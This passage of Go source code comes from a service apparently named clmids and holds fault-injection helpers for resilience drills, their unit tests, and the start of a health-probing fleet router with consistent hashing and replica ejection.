// 7th call" holds fleet-wide, not per shard.
type Control struct {
	active   atomic.Bool
	calls    atomic.Int64
	injected atomic.Int64
}

// NewControl returns an armed Control.
func NewControl() *Control {
	c := &Control{}
	c.active.Store(true)
	return c
}

// Arm (re)enables injection.
func (c *Control) Arm() { c.active.Store(true) }

// Clear disables injection: wrapped scorers pass through untouched from
// the next call on — the "faults clear" moment a soak test recovers from.
func (c *Control) Clear() { c.active.Store(false) }

// Active reports whether injection is enabled.
func (c *Control) Active() bool { return c.active.Load() }

// Calls returns the number of Score calls seen while armed.
func (c *Control) Calls() int64 { return c.calls.Load() }

// Injected returns the number of faults actually delivered.
func (c *Control) Injected() int64 { return c.injected.Load() }

// Scorer wraps an inner scorer with scheduled faults. The zero schedule
// injects nothing; fields combine (a call can both stall and then error).
// It forwards Replicable, CacheStatser, and PrecisionSwitcher to the inner
// scorer so a faulted scorer still fans out across shards, reports cache
// stats, and rides the precision-degradation ladder.
type Scorer struct {
	Inner tuning.Scorer
	Ctl   *Control
	// Seed offsets every schedule: two runs with different seeds fault
	// different calls, same seed faults the same ones.
	Seed int64
	// ErrEvery makes every ErrEvery-th call return ErrInjected (after the
	// inner scorer is skipped — the batch aborts and rolls back).
	ErrEvery int
	// PanicEvery makes every PanicEvery-th call panic, exercising the
	// detector's recover + bisect path.
	PanicEvery int
	// PanicSubstring panics whenever any input contains it — a poison line
	// that panics reproducibly, the quarantine trigger.
	PanicSubstring string
	// LatencyEvery stalls every LatencyEvery-th call for Latency before
	// scoring — the latency-spike injector.
	LatencyEvery int
	Latency      time.Duration
}

var _ tuning.Replicable = (*Scorer)(nil)
var _ tuning.PrecisionSwitcher = (*Scorer)(nil)

// hits reports whether schedule `every` fires on call n.
func (f *Scorer) hits(n int64, every int) bool {
	return every > 0 && n%int64(every) == f.Seed%int64(every)
}

// Score applies the armed schedules, then delegates to the inner scorer.
func (f *Scorer) Score(inputs []string) ([]float64, error) {
	if f.Ctl != nil && f.Ctl.Active() {
		n := f.Ctl.calls.Add(1)
		if f.hits(n, f.LatencyEvery) {
			f.Ctl.injected.Add(1)
			time.Sleep(f.Latency)
		}
		if f.PanicSubstring != "" {
			for _, in := range inputs {
				if strings.Contains(in, f.PanicSubstring) {
					f.Ctl.injected.Add(1)
					panic(fmt.Sprintf("faults: poison input %q", f.PanicSubstring))
				}
			}
		}
		if f.hits(n, f.PanicEvery) {
			f.Ctl.injected.Add(1)
			panic(fmt.Sprintf("faults: scheduled panic on call %d", n))
		}
		if f.hits(n, f.ErrEvery) {
			f.Ctl.injected.Add(1)
			return nil, fmt.Errorf("%w: scheduled error on call %d", ErrInjected, n)
		}
	}
	return f.Inner.Score(inputs)
}

// Replicate stamps out a replica wrapping a replica of the inner scorer
// (or the inner scorer itself when it is not Replicable — single-shard
// drills). All replicas share the Control and its call counter.
func (f *Scorer) Replicate() tuning.Scorer {
	inner := f.Inner
	if r, ok := inner.(tuning.Replicable); ok {
		inner = r.Replicate()
	}
	c := *f
	c.Inner = inner
	return &c
}

// CacheStats forwards the inner scorer's cache counters (zero without).
func (f *Scorer) CacheStats() tuning.CacheStats {
	if cs, ok := f.Inner.(tuning.CacheStatser); ok {
		return cs.CacheStats()
	}
	return tuning.CacheStats{}
}

// Precision reports the inner scorer's serving rung (float64 when the
// inner scorer does not report one — stubs are float64 by construction).
func (f *Scorer) Precision() model.Precision {
	if p, ok := tuning.ScorerPrecision(f.Inner); ok {
		return p
	}
	return model.PrecisionFloat64
}

// AtPrecision returns a same-schedule injector wrapping the inner scorer's
// variant at p, so the degrade policy can downshift straight through a
// fault wrapper.
func (f *Scorer) AtPrecision(p model.Precision) (tuning.Scorer, error) {
	inner, err := tuning.AtPrecision(f.Inner, p)
	if err != nil {
		return nil, err
	}
	c := *f
	c.Inner = inner
	return &c, nil
}

// Gate wedges scoring on demand: Hold makes every wrapped Score call block
// until Release. It simulates a stalled dependency (saturated CPU, slow
// page-in) so drills can fill queues deterministically and watch the
// overload policy react.
type Gate struct {
	mu   sync.Mutex
	held chan struct{} // non-nil while held; closed by Release
}

// Hold closes the gate: subsequent Score calls block. No-op if held.
func (g *Gate) Hold() {
	g.mu.Lock()
	if g.held == nil {
		g.held = make(chan struct{})
	}
	g.mu.Unlock()
}

// Release opens the gate, unblocking every waiting Score call. No-op if
// open.
func (g *Gate) Release() {
	g.mu.Lock()
	if g.held != nil {
		close(g.held)
		g.held = nil
	}
	g.mu.Unlock()
}

// Wait blocks while the gate is held.
func (g *Gate) Wait() {
	g.mu.Lock()
	held := g.held
	g.mu.Unlock()
	if held != nil {
		<-held
	}
}

// gatedScorer blocks on the gate before every score.
type gatedScorer struct {
	inner tuning.Scorer
	gate  *Gate
}

// Wrap returns a scorer that waits for the gate before delegating. The
// wrapper replicates (replicas share the gate) and forwards precision
// switching, like Scorer.
func (g *Gate) Wrap(s tuning.Scorer) tuning.Scorer {
	return &gatedScorer{inner: s, gate: g}
}

var _ tuning.Replicable = (*gatedScorer)(nil)

func (gs *gatedScorer) Score(inputs []string) ([]float64, error) {
	gs.gate.Wait()
	return gs.inner.Score(inputs)
}

func (gs *gatedScorer) Replicate() tuning.Scorer {
	inner := gs.inner
	if r, ok := inner.(tuning.Replicable); ok {
		inner = r.Replicate()
	}
	return &gatedScorer{inner: inner, gate: gs.gate}
}

func (gs *gatedScorer) CacheStats() tuning.CacheStats {
	if cs, ok := gs.inner.(tuning.CacheStatser); ok {
		return cs.CacheStats()
	}
	return tuning.CacheStats{}
}

func (gs *gatedScorer) Precision() model.Precision {
	if p, ok := tuning.ScorerPrecision(gs.inner); ok {
		return p
	}
	return model.PrecisionFloat64
}

func (gs *gatedScorer) AtPrecision(p model.Precision) (tuning.Scorer, error) {
	inner, err := tuning.AtPrecision(gs.inner, p)
	if err != nil {
		return nil, err
	}
	return &gatedScorer{inner: inner, gate: gs.gate}, nil
}

// CorruptBundleCopy copies the bundle directory at src to dst and flips
// one byte in the named section file — a bundle whose manifest checksums
// no longer match, for /reload rejection drills.
func CorruptBundleCopy(src, dst, section string) error {
	if err := copyDir(src, dst); err != nil {
		return err
	}
	path := filepath.Join(dst, section)
	data, err := os.ReadFile(path)
	if err != nil {
		return fmt.Errorf("faults: reading section to corrupt: %w", err)
	}
	if len(data) == 0 {
		return fmt.Errorf("faults: section %s is empty, nothing to corrupt", section)
	}
	data[len(data)/2] ^= 0xFF
	return os.WriteFile(path, data, 0o644)
}

// TruncateBundleCopy copies the bundle directory at src to dst and cuts
// the named section file in half — the torn-write case.
func TruncateBundleCopy(src, dst, section string) error {
	if err := copyDir(src, dst); err != nil {
		return err
	}
	path := filepath.Join(dst, section)
	data, err := os.ReadFile(path)
	if err != nil {
		return fmt.Errorf("faults: reading section to truncate: %w", err)
	}
	return os.WriteFile(path, data[:len(data)/2], 0o644)
}

// copyDir copies the regular files of one flat directory (bundle layout
// has no subdirectories).
func copyDir(src, dst string) error {
	entries, err := os.ReadDir(src)
	if err != nil {
		return fmt.Errorf("faults: reading bundle dir: %w", err)
	}
	if err := os.MkdirAll(dst, 0o755); err != nil {
		return fmt.Errorf("faults: creating bundle copy dir: %w", err)
	}
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		data, err := os.ReadFile(filepath.Join(src, e.Name()))
		if err != nil {
			return fmt.Errorf("faults: copying bundle: %w", err)
		}
		if err := os.WriteFile(filepath.Join(dst, e.Name()), data, 0o644); err != nil {
			return fmt.Errorf("faults: copying bundle: %w", err)
		}
	}
	return nil
}
