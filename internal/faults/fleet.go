package faults

import (
	"io"
	"net/http"
	"sync/atomic"
	"time"
)

// Replica fault modes for the fleet tier: how a wrapped replica handler
// misbehaves while its ReplicaFault is armed. Each mode maps to a failure
// the fleet router must survive — a kill -9 (Down), a wedged-but-accepting
// node (Blackhole), a response severed mid-stream (Torn), and a node
// running at a crawl (Slow).
const (
	// ReplicaDown refuses every request outright (connection-level failure
	// from the client's view: the hijacked connection is closed without a
	// response).
	ReplicaDown = iota
	// ReplicaBlackhole accepts the request and never answers until the
	// fault clears or the hold duration elapses — the client's timeout is
	// what notices.
	ReplicaBlackhole
	// ReplicaTorn writes a valid response prefix, then severs the
	// connection mid-body: the torn-handoff drill (the router must treat
	// the suffix as unacknowledged and fail it over).
	ReplicaTorn
	// ReplicaSlow delays each response by the hold duration but answers
	// correctly — tail latency, not failure (what hedging is for).
	ReplicaSlow
)

// ReplicaFault wraps one replica's HTTP handler with a switchable fault
// mode. Unlike the call-counter injectors, replica faults are phase
// switches: a soak arms a mode on one replica (crash it, wedge it), lets
// the router react, clears it, and asserts recovery. Probe routes can be
// exempted to simulate a replica that looks healthy to probes while its
// data path misbehaves (the gray failure the data-path ejection exists
// for).
type ReplicaFault struct {
	mode   atomic.Int64 // -1 = off
	hold   atomic.Int64 // nanoseconds for Blackhole/Slow
	hits   atomic.Int64
	spare  atomic.Bool  // exempt /healthz+/readyz from the fault
	tornAt atomic.Int64 // bytes of valid prefix before Torn severs
}

// NewReplicaFault returns an unarmed wrapper (passes through untouched).
func NewReplicaFault() *ReplicaFault {
	f := &ReplicaFault{}
	f.mode.Store(-1)
	f.hold.Store(int64(50 * time.Millisecond))
	return f
}

// Set arms the fault in the given mode (ReplicaDown, ReplicaBlackhole,
// ReplicaTorn, ReplicaSlow).
func (f *ReplicaFault) Set(mode int) { f.mode.Store(int64(mode)) }

// ClearFault disarms the fault; requests pass through from the next one on.
func (f *ReplicaFault) ClearFault() { f.mode.Store(-1) }

// SetHold sets the Blackhole/Slow hold duration.
func (f *ReplicaFault) SetHold(d time.Duration) { f.hold.Store(int64(d)) }

// SetTornAt sets how many response bytes ReplicaTorn lets through before
// severing (0 severs immediately after headers).
func (f *ReplicaFault) SetTornAt(n int) { f.tornAt.Store(int64(n)) }

// SpareProbes exempts /healthz and /readyz from the fault when v is true:
// the replica keeps looking healthy while its data path fails — the gray
// failure only data-path ejection catches.
func (f *ReplicaFault) SpareProbes(v bool) { f.spare.Store(v) }

// Hits returns how many requests the fault has intercepted.
func (f *ReplicaFault) Hits() int64 { return f.hits.Load() }

// tornWriter forwards up to limit bytes then reports the connection
// severed; the handler's next write fails and the client sees a truncated
// body.
type tornWriter struct {
	http.ResponseWriter
	remaining int64
	severed   bool
}

func (t *tornWriter) Write(p []byte) (int, error) {
	if t.severed {
		return 0, http.ErrAbortHandler
	}
	if int64(len(p)) > t.remaining {
		p = p[:t.remaining]
	}
	n, err := t.ResponseWriter.Write(p)
	t.remaining -= int64(n)
	if t.remaining <= 0 {
		t.severed = true
		// Abort the handler so no further (valid) bytes follow; the
		// server resets the connection, which is exactly what a torn
		// network handoff looks like from the router.
		if f, ok := t.ResponseWriter.(http.Flusher); ok {
			f.Flush()
		}
		panic(http.ErrAbortHandler)
	}
	return n, err
}

// Wrap returns next behind the fault switch.
func (f *ReplicaFault) Wrap(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mode := f.mode.Load()
		if mode < 0 || (f.spare.Load() && (r.URL.Path == "/healthz" || r.URL.Path == "/readyz")) {
			next.ServeHTTP(w, r)
			return
		}
		f.hits.Add(1)
		switch mode {
		case ReplicaDown:
			// No bytes, no status: the closest an in-process server gets to
			// kill -9. ErrAbortHandler makes net/http drop the connection.
			panic(http.ErrAbortHandler)
		case ReplicaBlackhole:
			// Drain the body: the wedge happens after the bytes are accepted,
			// and net/http only notices a client disconnect (and cancels the
			// request context) once the body has been consumed.
			io.Copy(io.Discard, r.Body)
			t := time.NewTimer(time.Duration(f.hold.Load()))
			defer t.Stop()
			select {
			case <-r.Context().Done():
			case <-t.C:
			}
			panic(http.ErrAbortHandler)
		case ReplicaTorn:
			next.ServeHTTP(&tornWriter{ResponseWriter: w, remaining: f.tornAt.Load()}, r)
		case ReplicaSlow:
			io.Copy(io.Discard, r.Body)
			t := time.NewTimer(time.Duration(f.hold.Load()))
			defer t.Stop()
			select {
			case <-r.Context().Done():
				panic(http.ErrAbortHandler)
			case <-t.C:
			}
			next.ServeHTTP(w, r)
		default:
			next.ServeHTTP(w, r)
		}
	})
}
