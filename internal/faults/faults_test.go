package faults

import (
	"errors"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"clmids/internal/tuning"
)

// flatScorer returns a constant score; the simplest possible inner scorer.
type flatScorer struct{ score float64 }

func (f *flatScorer) Score(inputs []string) ([]float64, error) {
	out := make([]float64, len(inputs))
	for i := range out {
		out[i] = f.score
	}
	return out, nil
}

func (f *flatScorer) Replicate() tuning.Scorer { c := *f; return &c }

// TestScheduleDeterministic: the same seed faults the same call numbers,
// run after run; a different seed faults different ones.
func TestScheduleDeterministic(t *testing.T) {
	pattern := func(seed int64) []bool {
		ctl := NewControl()
		sc := &Scorer{Inner: &flatScorer{score: 0.5}, Ctl: ctl, Seed: seed, ErrEvery: 5}
		got := make([]bool, 0, 30)
		for i := 0; i < 30; i++ {
			_, err := sc.Score([]string{"x"})
			got = append(got, err != nil)
		}
		return got
	}
	a, b := pattern(3), pattern(3)
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("same seed diverged at call %d", i+1)
		}
	}
	faulted := 0
	for i, f := range a {
		if f {
			faulted++
			// ErrEvery=5, Seed=3 → calls where n%5 == 3: calls 3, 8, 13, …
			if (i+1)%5 != 3 {
				t.Fatalf("seed 3 faulted call %d, want n%%5==3", i+1)
			}
		}
	}
	if faulted != 6 {
		t.Fatalf("seed 3 faulted %d of 30 calls, want 6", faulted)
	}
	c := pattern(4)
	same := true
	for i := range a {
		if a[i] != c[i] {
			same = false
			break
		}
	}
	if same {
		t.Fatal("different seeds produced the same fault pattern")
	}
}

// TestErrInjectedWrapped: scheduled errors are ErrInjected, so drills can
// tell injected failures from real bugs.
func TestErrInjectedWrapped(t *testing.T) {
	sc := &Scorer{Inner: &flatScorer{}, Ctl: NewControl(), ErrEvery: 1}
	_, err := sc.Score([]string{"x"})
	if !errors.Is(err, ErrInjected) {
		t.Fatalf("error %v does not wrap ErrInjected", err)
	}
}

// TestClearPassthrough: after Clear, no schedule fires and the call counter
// stops; Arm turns the faults back on.
func TestClearPassthrough(t *testing.T) {
	ctl := NewControl()
	sc := &Scorer{Inner: &flatScorer{score: 0.7}, Ctl: ctl, ErrEvery: 1}
	if _, err := sc.Score([]string{"x"}); err == nil {
		t.Fatal("armed every-call schedule did not fire")
	}
	ctl.Clear()
	callsBefore := ctl.Calls()
	for i := 0; i < 10; i++ {
		scores, err := sc.Score([]string{"x"})
		if err != nil {
			t.Fatalf("cleared injector still faulting: %v", err)
		}
		if scores[0] != 0.7 {
			t.Fatalf("cleared injector altered scores: %v", scores)
		}
	}
	if ctl.Calls() != callsBefore {
		t.Fatal("cleared injector still counting calls")
	}
	ctl.Arm()
	if _, err := sc.Score([]string{"x"}); err == nil {
		t.Fatal("re-armed injector did not fault")
	}
}

// TestPanicSchedules: PanicEvery and PanicSubstring panic as promised.
func TestPanicSchedules(t *testing.T) {
	mustPanic := func(name string, fn func()) {
		t.Helper()
		defer func() {
			if recover() == nil {
				t.Fatalf("%s did not panic", name)
			}
		}()
		fn()
	}
	every := &Scorer{Inner: &flatScorer{}, Ctl: NewControl(), PanicEvery: 1}
	mustPanic("PanicEvery=1", func() { every.Score([]string{"ls"}) })

	poison := &Scorer{Inner: &flatScorer{}, Ctl: NewControl(), PanicSubstring: "POISON"}
	if _, err := poison.Score([]string{"ls", "pwd"}); err != nil {
		t.Fatalf("clean input faulted: %v", err)
	}
	mustPanic("PanicSubstring", func() { poison.Score([]string{"ls", "run POISON now"}) })
}

// TestReplicasShareControl: replicas advance one shared call counter, so an
// every-Nth schedule holds across the fleet rather than per replica.
func TestReplicasShareControl(t *testing.T) {
	ctl := NewControl()
	base := &Scorer{Inner: &flatScorer{}, Ctl: ctl, ErrEvery: 2}
	rep := base.Replicate().(*Scorer)
	if rep.Ctl != ctl {
		t.Fatal("replica has its own Control")
	}
	errs := 0
	for i := 0; i < 10; i++ {
		sc := tuning.Scorer(base)
		if i%2 == 1 {
			sc = rep
		}
		if _, err := sc.Score([]string{"x"}); err != nil {
			errs++
		}
	}
	if ctl.Calls() != 10 {
		t.Fatalf("shared counter saw %d calls, want 10", ctl.Calls())
	}
	if errs != 5 {
		t.Fatalf("every-2nd schedule fired %d of 10 across replicas, want 5", errs)
	}
}

// TestGateBlocksAndReleases: a held gate blocks Score; Release unblocks
// every waiter; an open gate costs nothing.
func TestGateBlocksAndReleases(t *testing.T) {
	gate := &Gate{}
	sc := gate.Wrap(&flatScorer{score: 0.3})
	if _, err := sc.Score([]string{"x"}); err != nil {
		t.Fatalf("open gate blocked: %v", err)
	}

	gate.Hold()
	const waiters = 3
	done := make(chan struct{}, waiters)
	var wg sync.WaitGroup
	for i := 0; i < waiters; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			sc.Score([]string{"x"})
			done <- struct{}{}
		}()
	}
	select {
	case <-done:
		t.Fatal("held gate let a Score call through")
	case <-time.After(20 * time.Millisecond):
	}
	gate.Release()
	waited := make(chan struct{})
	go func() { wg.Wait(); close(waited) }()
	select {
	case <-waited:
	case <-time.After(5 * time.Second):
		t.Fatal("Release did not unblock all waiters")
	}

	// Replicas share the gate.
	rep := sc.(tuning.Replicable).Replicate()
	gate.Hold()
	repDone := make(chan struct{})
	go func() { rep.Score([]string{"x"}); close(repDone) }()
	select {
	case <-repDone:
		t.Fatal("replica ignored the shared gate")
	case <-time.After(20 * time.Millisecond):
	}
	gate.Release()
	select {
	case <-repDone:
	case <-time.After(5 * time.Second):
		t.Fatal("replica never unblocked")
	}
}

// writeFlatDir lays down a synthetic flat "bundle" for the damage helpers.
func writeFlatDir(t *testing.T, files map[string][]byte) string {
	t.Helper()
	dir := t.TempDir()
	for name, data := range files {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestCorruptBundleCopy: the copy differs from the source in exactly one
// byte of the named section; other files copy verbatim; the source is
// untouched.
func TestCorruptBundleCopy(t *testing.T) {
	src := writeFlatDir(t, map[string][]byte{
		"model.bin": []byte("0123456789"),
		"other.txt": []byte("leave me alone"),
	})
	dst := filepath.Join(t.TempDir(), "corrupt")
	if err := CorruptBundleCopy(src, dst, "model.bin"); err != nil {
		t.Fatal(err)
	}
	orig, _ := os.ReadFile(filepath.Join(src, "model.bin"))
	if string(orig) != "0123456789" {
		t.Fatal("source bundle mutated")
	}
	got, err := os.ReadFile(filepath.Join(dst, "model.bin"))
	if err != nil {
		t.Fatal(err)
	}
	diff := 0
	for i := range got {
		if got[i] != orig[i] {
			diff++
		}
	}
	if len(got) != len(orig) || diff != 1 {
		t.Fatalf("corrupt copy differs in %d bytes (len %d vs %d), want exactly 1", diff, len(got), len(orig))
	}
	other, _ := os.ReadFile(filepath.Join(dst, "other.txt"))
	if string(other) != "leave me alone" {
		t.Fatal("unrelated file altered")
	}
}

// TestTruncateBundleCopy: the named section is cut in half; the source is
// untouched.
func TestTruncateBundleCopy(t *testing.T) {
	src := writeFlatDir(t, map[string][]byte{"model.bin": []byte("0123456789")})
	dst := filepath.Join(t.TempDir(), "torn")
	if err := TruncateBundleCopy(src, dst, "model.bin"); err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(filepath.Join(dst, "model.bin"))
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "01234" {
		t.Fatalf("truncated section = %q, want first half", got)
	}
	orig, _ := os.ReadFile(filepath.Join(src, "model.bin"))
	if string(orig) != "0123456789" {
		t.Fatal("source bundle mutated")
	}
}
