package fleet

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"net/http"
	"net/url"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"clmids/internal/stream"
)

// Config parameterizes a Router. Zero values take the documented defaults.
type Config struct {
	// Replicas are the downstream clmserve base URLs
	// (e.g. http://127.0.0.1:8081). At least one is required; membership is
	// fixed for the router's lifetime (health decides rotation, not
	// membership).
	Replicas []string
	// VNodes is the virtual-node count per replica on the hash ring
	// (default DefaultVNodes).
	VNodes int
	// ProbeInterval is the health-probe period per replica (default 500ms);
	// ProbeTimeout bounds each probe request (default: ProbeInterval).
	ProbeInterval time.Duration
	ProbeTimeout  time.Duration
	// EjectAfter is the consecutive probe failures that eject a replica
	// from the ring; ReadmitAfter the consecutive successes that readmit
	// it. Defaults 2 and 2. Data-path transport failures eject immediately
	// — the probe thresholds only smooth flapping.
	EjectAfter   int
	ReadmitAfter int
	// RequestTimeout bounds each proxied /score, export, and import call
	// (default 15s).
	RequestTimeout time.Duration
	// RetryMax is the attempt budget per target for retryable failures
	// (429/5xx) before giving up on it; RetryBase/RetryCap shape the capped
	// exponential backoff between attempts (jittered; Retry-After from a
	// 429 overrides when longer). Defaults 4, 50ms, 2s.
	RetryMax  int
	RetryBase time.Duration
	RetryCap  time.Duration
	// HedgeAfter launches a speculative request to the user's failover
	// successor when the primary has not answered within this duration;
	// first success wins. 0 disables hedging.
	HedgeAfter time.Duration
	// Chunk caps events per proxied Submit (default 512).
	Chunk int
	// BundleDir is the default rolling-reload source (empty: /reload
	// requires ?bundle=dir).
	BundleDir string
	// ReloadWait bounds, per replica, the waits inside a rolling reload:
	// for the rest of the fleet to be healthy, for the drained replica to
	// go idle, and for /readyz after the reload. Default 30s.
	ReloadWait time.Duration
	// Client is the HTTP client for all downstream calls (default: a
	// dedicated client with no global timeout — per-call contexts bound
	// every request).
	Client *http.Client
	// Seed seeds backoff jitter and fixes it for reproducible tests
	// (default 1).
	Seed int64
	// Logf receives operational events (ejections, readmissions, failovers,
	// reloads). Default: discard.
	Logf func(format string, args ...any)
}

func (c Config) withDefaults() Config {
	if c.VNodes <= 0 {
		c.VNodes = DefaultVNodes
	}
	if c.ProbeInterval <= 0 {
		c.ProbeInterval = 500 * time.Millisecond
	}
	if c.ProbeTimeout <= 0 {
		c.ProbeTimeout = c.ProbeInterval
	}
	if c.EjectAfter <= 0 {
		c.EjectAfter = 2
	}
	if c.ReadmitAfter <= 0 {
		c.ReadmitAfter = 2
	}
	if c.RequestTimeout <= 0 {
		c.RequestTimeout = 15 * time.Second
	}
	if c.RetryMax <= 0 {
		c.RetryMax = 4
	}
	if c.RetryBase <= 0 {
		c.RetryBase = 50 * time.Millisecond
	}
	if c.RetryCap <= 0 {
		c.RetryCap = 2 * time.Second
	}
	if c.Chunk <= 0 {
		c.Chunk = 512
	}
	if c.ReloadWait <= 0 {
		c.ReloadWait = 30 * time.Second
	}
	if c.Client == nil {
		c.Client = &http.Client{}
	}
	if c.Seed == 0 {
		c.Seed = 1
	}
	if c.Logf == nil {
		c.Logf = func(string, ...any) {}
	}
	return c
}

// ErrNoReplicas is returned by Route when no healthy, config-verified
// replica is in rotation (the fleet-level analogue of "scorer loading");
// the HTTP layer maps it to 503.
var ErrNoReplicas = errors.New("fleet: no healthy replica in rotation")

// errUnroutable marks events the fleet could not score after exhausting
// retries and failovers.
var errUnroutable = errors.New("fleet: events unroutable")

// replica is the router's view of one downstream clmserve: probe-driven
// health state plus counters. All fields except inflight are guarded by
// Router.mu.
type replica struct {
	addr string

	ready    bool // /readyz passing (per the ejection/readmission machine)
	cfgOK    bool // /stats config+modality verified against the fleet's
	draining bool // rolling reload holds it out of rotation

	consecFails, consecOKs  int
	ejections, readmissions int64

	inflight atomic.Int64 // data-path calls in progress (drain gate)
}

// Router consistent-hashes user → replica over the configured fleet and
// proxies the NDJSON /score protocol with retries, backoff, hedging, and
// session failover. Create with New, then Start the health probes.
type Router struct {
	cfg Config

	mu      sync.Mutex
	reps    []*replica
	byAddr  map[string]*replica
	ring    *Ring
	owners  map[string]string // user → replica addr holding their window
	shadows map[string]*shadowWindow

	sessCfgKnown bool
	sessCfg      stream.Config
	modality     string
	highWater    int64
	lastSweep    int64

	rngMu sync.Mutex
	rng   *rand.Rand

	reloadMu sync.Mutex // serializes rolling reloads

	events, retries, hedges, hedgeWins atomic.Int64
	failovers, imports, exports        atomic.Int64

	stopOnce sync.Once
	stop     chan struct{}
	wg       sync.WaitGroup
}

// New builds a Router over cfg.Replicas. All replicas start out of
// rotation; Start's first probe round admits the healthy ones.
func New(cfg Config) (*Router, error) {
	cfg = cfg.withDefaults()
	if len(cfg.Replicas) == 0 {
		return nil, errors.New("fleet: at least one replica required")
	}
	rt := &Router{
		cfg:     cfg,
		byAddr:  make(map[string]*replica, len(cfg.Replicas)),
		owners:  make(map[string]string),
		shadows: make(map[string]*shadowWindow),
		ring:    BuildRing(nil, cfg.VNodes),
		rng:     rand.New(rand.NewSource(cfg.Seed)),
		stop:    make(chan struct{}),
	}
	for _, a := range cfg.Replicas {
		a = strings.TrimRight(a, "/")
		if a == "" {
			return nil, errors.New("fleet: empty replica address")
		}
		if _, dup := rt.byAddr[a]; dup {
			return nil, fmt.Errorf("fleet: duplicate replica %s", a)
		}
		rep := &replica{addr: a}
		rt.reps = append(rt.reps, rep)
		rt.byAddr[a] = rep
	}
	return rt, nil
}

// Start runs one synchronous probe round (so a healthy fleet is routable
// immediately) and launches the per-replica probe loops.
func (rt *Router) Start() {
	var wg sync.WaitGroup
	for _, rep := range rt.reps {
		wg.Add(1)
		go func(rep *replica) {
			defer wg.Done()
			rt.probeOnce(rep)
		}(rep)
	}
	wg.Wait()
	for _, rep := range rt.reps {
		rt.wg.Add(1)
		go rt.probeLoop(rep)
	}
}

// Stop halts the probe loops. In-flight Routes are not interrupted.
func (rt *Router) Stop() {
	rt.stopOnce.Do(func() { close(rt.stop) })
	rt.wg.Wait()
}

// ---- health probing ----

func (rt *Router) probeLoop(rep *replica) {
	defer rt.wg.Done()
	t := time.NewTicker(rt.cfg.ProbeInterval)
	defer t.Stop()
	for {
		select {
		case <-rt.stop:
			return
		case <-t.C:
			rt.probeOnce(rep)
		}
	}
}

// probeOnce checks /readyz and, on the edge back to healthy, re-verifies
// the replica's session config and modality off /stats before readmitting:
// a replica whose semantics drifted from the fleet's never rejoins the
// ring, because mirrored shadow windows and migrated checkpoints would
// silently mis-score there.
func (rt *Router) probeOnce(rep *replica) {
	ok := rt.checkReady(rep)
	if ok {
		rt.mu.Lock()
		verified := rep.cfgOK
		rt.mu.Unlock()
		if !verified {
			ok = rt.verifyConfig(rep)
		}
	}
	rt.noteProbe(rep, ok)
}

func (rt *Router) checkReady(rep *replica) bool {
	ctx, cancel := context.WithTimeout(context.Background(), rt.cfg.ProbeTimeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, rep.addr+"/readyz", nil)
	if err != nil {
		return false
	}
	resp, err := rt.cfg.Client.Do(req)
	if err != nil {
		return false
	}
	io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
	resp.Body.Close()
	return resp.StatusCode == http.StatusOK
}

// verifyConfig fetches /stats and checks the replica's session config and
// modality against the fleet's. The first verified replica donates the
// fleet-wide reference.
func (rt *Router) verifyConfig(rep *replica) bool {
	ctx, cancel := context.WithTimeout(context.Background(), rt.cfg.ProbeTimeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, rep.addr+"/stats", nil)
	if err != nil {
		return false
	}
	resp, err := rt.cfg.Client.Do(req)
	if err != nil {
		return false
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return false
	}
	var st struct {
		Config   stream.Config `json:"config"`
		Modality string        `json:"modality"`
	}
	if err := json.NewDecoder(io.LimitReader(resp.Body, 1<<20)).Decode(&st); err != nil {
		return false
	}
	rt.mu.Lock()
	defer rt.mu.Unlock()
	if !rt.sessCfgKnown {
		rt.sessCfgKnown = true
		rt.sessCfg = st.Config
		rt.modality = st.Modality
		rep.cfgOK = true
		return true
	}
	if st.Config != rt.sessCfg || st.Modality != rt.modality {
		rt.cfg.Logf("fleet: replica %s config/modality mismatch (modality %q vs fleet %q) — held out of rotation",
			rep.addr, st.Modality, rt.modality)
		return false
	}
	rep.cfgOK = true
	return true
}

// noteProbe advances the ejection/readmission state machine: EjectAfter
// consecutive failures take a replica out of the ring, ReadmitAfter
// consecutive successes put it back.
func (rt *Router) noteProbe(rep *replica, ok bool) {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	if ok {
		rep.consecFails = 0
		rep.consecOKs++
		if !rep.ready && rep.consecOKs >= rt.cfg.ReadmitAfter && rep.cfgOK {
			rep.ready = true
			rep.readmissions++
			rt.rebuildRingLocked()
			rt.cfg.Logf("fleet: replica %s readmitted (%d in rotation)", rep.addr, rt.healthyLocked())
		}
		return
	}
	rep.consecOKs = 0
	rep.consecFails++
	if rep.ready && rep.consecFails >= rt.cfg.EjectAfter {
		rt.ejectLocked(rep, "probe failures")
	}
}

// eject takes a replica out of rotation immediately (data-path failures
// don't wait for probe thresholds — a torn connection means its session
// state is suspect and its users must fail over now).
func (rt *Router) eject(rep *replica, reason string) {
	rt.mu.Lock()
	rt.ejectLocked(rep, reason)
	rt.mu.Unlock()
}

func (rt *Router) ejectLocked(rep *replica, reason string) {
	if !rep.ready {
		return
	}
	rep.ready = false
	rep.cfgOK = false // re-verify semantics on the way back in
	rep.consecOKs = 0
	rep.ejections++
	rt.rebuildRingLocked()
	rt.cfg.Logf("fleet: replica %s ejected (%s; %d in rotation)", rep.addr, reason, rt.healthyLocked())
}

func (rt *Router) healthyLocked() int {
	n := 0
	for _, r := range rt.reps {
		if r.ready && !r.draining {
			n++
		}
	}
	return n
}

func (rt *Router) rebuildRingLocked() {
	addrs := make([]string, 0, len(rt.reps))
	for _, r := range rt.reps {
		if r.ready && !r.draining {
			addrs = append(addrs, r.addr)
		}
	}
	rt.ring = BuildRing(addrs, rt.cfg.VNodes)
}

// Ready reports whether the router can serve: at least one healthy replica
